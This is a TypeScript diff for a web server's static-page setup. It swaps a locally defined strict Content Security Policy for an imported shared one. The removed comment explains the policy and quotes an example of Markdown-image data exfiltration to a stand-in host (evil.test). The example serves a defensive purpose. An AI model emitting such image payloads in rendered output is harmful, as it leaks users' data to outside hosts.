@@ -4,6 +4,7 @@ import {
   createId,
   defineChannel,
   FrontdeskError,
+  PAGE_CONTENT_SECURITY_POLICY,
   parseJsonBody,
   type ChannelAdapter,
   type ChannelContext,
@@ -36,25 +37,9 @@ function parseBody<T>(schema: z.ZodType<T>, value: unknown): T {
 
 const asset = (name: string) => readFileSync(new URL(`./public/${name}`, import.meta.url));
 
-// Our pages load only our own script and styles, talk only to us, and cannot be framed. No inline script or style;
-// Trusted Types are enforced so even a slip into innerHTML would throw instead of parsing markup. Images only from
-// us: a Markdown-style `![i](https://evil.test/?d=…)` could never become a request even if something rendered it.
-const PAGE_CSP = [
-  "default-src 'none'",
-  "script-src 'self'",
-  "style-src 'self'",
-  "connect-src 'self'",
-  "img-src 'self'",
-  "base-uri 'none'",
-  "form-action 'none'",
-  "frame-ancestors 'none'",
-  "require-trusted-types-for 'script'",
-  "trusted-types 'none'",
-].join('; ');
-
 /** The page, the widget and its styles. The widget files may be embedded by any site, so they allow cross-origin use. */
 const STATIC_FILES: Array<{ path: string; file: string; type: string; headers: Record<string, string> }> = [
-  { path: '/', file: 'index.html', type: 'text/html; charset=utf-8', headers: { 'content-security-policy': PAGE_CSP, 'cache-control': 'no-cache' } },
+  { path: '/', file: 'index.html', type: 'text/html; charset=utf-8', headers: { 'content-security-policy': PAGE_CONTENT_SECURITY_POLICY, 'cache-control': 'no-cache' } },
   { path: '/site.css', file: 'site.css', type: 'text/css; charset=utf-8', headers: { 'cache-control': 'no-cache' } },
   { path: '/favicon.svg', file: 'favicon.svg', type: 'image/svg+xml', headers: { 'cache-control': 'public, max-age=86400' } },
   { path: '/widget.js', file: 'widget.js', type: 'text/javascript; charset=utf-8', headers: { 'cache-control': 'public, max-age=300', 'cross-origin-resource-policy': 'cross-origin' } },
